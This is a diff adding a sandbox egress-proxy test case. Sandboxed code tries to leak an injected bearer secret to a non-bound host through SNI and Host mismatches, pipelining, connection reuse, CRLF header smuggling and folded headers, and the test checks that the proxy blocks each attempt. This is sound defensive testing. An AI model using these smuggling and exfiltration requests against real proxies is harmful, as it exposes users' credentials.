@@ -1498,6 +1498,162 @@ async def egress_pipelined_and_fronted(ctx):
             await s.nothing_left()
 
 
+class SecretUpstream:
+    """An HTTPS endpoint on the host for the secrets' cases, with a CA of its own (openssl CLI):
+    its certificate names `bound.test` and `other.test`. It records each request's path, Host
+    and every header line that holds the value, and answers `ok PATH`."""
+
+    def __init__(self, address, value):
+        import http.server
+        import ssl
+        self.dir = tempfile.mkdtemp(prefix="pcs-suite-secrets-")
+        self.ca = os.path.join(self.dir, "ca.pem")
+        openssl = lambda *args: subprocess.run(["openssl", *args], cwd=self.dir, check=True,  # noqa: E731
+                                               capture_output=True, timeout=60)
+        openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=pcs suite CA",
+                "-keyout", "ca.key", "-out", "ca.pem")
+        openssl("req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=bound.test", "-keyout", "key.pem",
+                "-out", "leaf.csr")
+        with open(os.path.join(self.dir, "ext"), "w") as f:
+            f.write("subjectAltName=DNS:bound.test,DNS:other.test\nbasicConstraints=critical,CA:FALSE\n")
+        openssl("x509", "-req", "-in", "leaf.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
+                "-days", "1", "-extfile", "ext", "-out", "cert.pem")
+        os.chmod(self.ca, 0o644)
+        endpoint = self
+        self.requests = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            timeout = 20
+            protocol_version = "HTTP/1.1"
+
+            def do_GET(self):
+                carrying = [f"{name}: {v}" for name, v in self.headers.items() if value in v or value in name]
+                endpoint.requests.append((self.path, self.headers.get("Host", ""), carrying))
+                body = ("ok " + self.path).encode()
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args):
+                pass
+
+        class Server(http.server.ThreadingHTTPServer):
+            daemon_threads = True
+
+            def handle_error(self, request, client_address):
+                pass  # a clear-text request to it is one of the attacks: no traceback
+
+        self.server = Server((address, 0), Handler)
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        context.load_cert_chain(os.path.join(self.dir, "cert.pem"), os.path.join(self.dir, "key.pem"))
+        self.server.socket = context.wrap_socket(self.server.socket, server_side=True,
+                                                 do_handshake_on_connect=False)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+
+# The code's side of the secrets' attacks: raw tunnels through the proxy, TLS with the SNI it
+# likes, requests written by hand (nothing in between to fix them).
+SECRET_ATTACKS = RAW_PROXY + r"""
+import ssl
+KEY = os.environ["SUITE_KEY"]
+PORT = PORTNUM
+def tunnel(target, sni, data, verify=True):
+    s = socket.create_connection((PROXY[0], int(PROXY[1])), timeout=20)
+    s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (target, PORT, target, PORT)).encode())
+    head = s.recv(4096)
+    if not head.startswith(b"HTTP/1.1 200"):
+        return "tunnel refused: " + head.split(b"\r\n", 1)[0].decode("latin-1")
+    context = ssl.create_default_context()
+    if not verify:
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+    try:
+        t = context.wrap_socket(s, server_hostname=sni)
+        t.sendall(data)
+        out = b""
+        while True:
+            chunk = t.recv(65536)
+            if not chunk:
+                break
+            out += chunk
+    except (OSError, ssl.SSLError) as e:
+        return "failed: " + type(e).__name__
+    return " ".join(re.findall(r"HTTP/1\.1 (\d{3}) ", out.decode("latin-1")))
+def req(path, host, extra="", close=False):
+    return ("GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n%s%s\r\n"
+            % (path, host, KEY, extra, "Connection: close\r\n" if close else "")).encode()
+B, O = "bound.test:%d" % PORT, "other.test:%d" % PORT
+print("legit", tunnel("bound.test", "bound.test", req("/legit", B, close=True)))
+print("sni-other", tunnel("bound.test", "other.test", req("/sni-other", B, close=True)))
+print("no-sni", tunnel("bound.test", None, req("/no-sni", B, close=True), verify=False))
+print("host-other", tunnel("bound.test", "bound.test", req("/host-other", O, close=True)))
+print("ip-literal", tunnel("GATEWAY", "bound.test", req("/ip-literal", B, close=True)))
+print("rebound-name", tunnel("other.test", "bound.test", req("/rebound-name", B, close=True)))
+print("pipelined", tunnel("bound.test", "bound.test",
+      req("/pipe-bound", B) + req("/pipe-other", O) + req("/pipe-last", B, close=True)))
+print("reused", tunnel("bound.test", "bound.test", req("/reuse-bound", B)
+      + ("GET https://%s/reuse-other HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n"
+         % (O, O, KEY)).encode()))
+print("crlf", tunnel("bound.test", "bound.test",
+      req("/crlf", B, extra="X-Smuggled: Bearer %s\r\nX-Api-Key: %s\r\n" % (KEY, KEY), close=True)))
+print("folded", tunnel("bound.test", "bound.test",
+      ("GET /folded HTTP/1.1\r\nHost: %s\r\nX-Note: a\r\n Authorization: Bearer %s\r\nConnection: close\r\n\r\n"
+       % (B, KEY)).encode()))
+print("clear", statuses(exchange(("GET http://bound.test:%d/clear HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n"
+      % (PORT, B, KEY)).encode())))
+"""
+
+
+@case("egress: a secret reaches only its host, whatever the code sends (issue 46)", kind="attack-own-server")
+async def egress_secret_attacks(ctx):
+    egress_only(ctx)
+    gateway = host_gateway()
+    value = "sk-suite-" + uuid.uuid4().hex
+    upstream = SecretUpstream(gateway, value)
+    port = upstream.port
+    try:
+        secrets = os.path.join(upstream.dir, "secrets.toml")
+        with open(secrets, "w") as f:
+            f.write(f'[[secret]]\nname = "suite"\nvalue_env = "PCS_SUITE_SECRET"\nhosts = ["bound.test:{port}"]\n'
+                    'env = "SUITE_KEY"\n')
+        env = egress_env(ctx, gateway, f"other.test:{port},{gateway}/32:{port}",
+                         SANDBOX_EGRESS_RESOLVE=f"bound.test={gateway},other.test={gateway}",
+                         SANDBOX_SECRETS_FILE=secrets, PCS_SUITE_SECRET=value, SANDBOX_CA_BUNDLE=upstream.ca)
+        async with server(ctx.binary, **env) as s:
+            code = SECRET_ATTACKS.replace("PORTNUM", str(port)).replace("GATEWAY", gateway)
+            result = await s.run(code, timeout_seconds=120)
+            check(result.is_error is False, text_of(result))
+            out = dict(line.split(" ", 1) for line in result.structured_content["stdout"].splitlines())
+            check(value not in json.dumps(result.structured_content) + text_of(result), "the value is in the result")
+            # Where the secret belongs it is sent (else the rest proves nothing), once, in its header.
+            carried = {path: carrying for path, _, carrying in upstream.requests if carrying}
+            check(out.get("legit") == "200" and carried.get("/legit") == [f"Authorization: Bearer {value}"],
+                  f"the bound host's own request: {out} {upstream.requests}")
+            # Everywhere else: never. Requests on a bumped connection to the bound host that name it
+            # in Host may carry it (each is judged on its own); no other header ever does.
+            # (`/folded` too: a folded line is part of the header above it, so the request has no
+            # Authorization of its own, and the proxy adds one, as it does to any such request.)
+            legit = {"/legit", "/pipe-bound", "/pipe-last", "/reuse-bound", "/crlf", "/folded"}
+            for path, host, carrying in upstream.requests:
+                check(not carrying or (path in legit and host == f"bound.test:{port}"
+                                       and carrying == [f"Authorization: Bearer {value}"]),
+                      f"{path} (Host {host}) got the secret: {carrying}; the code saw {out}")
+            record = result.structured_content.get("network") or []
+            check(all(e.get("secret") in (None, "suite") for e in record), f"{record}")
+            check(all(e["host"] in ("bound.test",) for e in record if e.get("secret")), f"{record}")
+            await s.answers_normally()
+            await s.nothing_left()
+    finally:
+        upstream.close()
+
+
 @case("egress: one execution cannot flood the user with consent questions (item 4)", kind="attack-own-server")
 async def egress_consent_flood(ctx):
     egress_only(ctx)
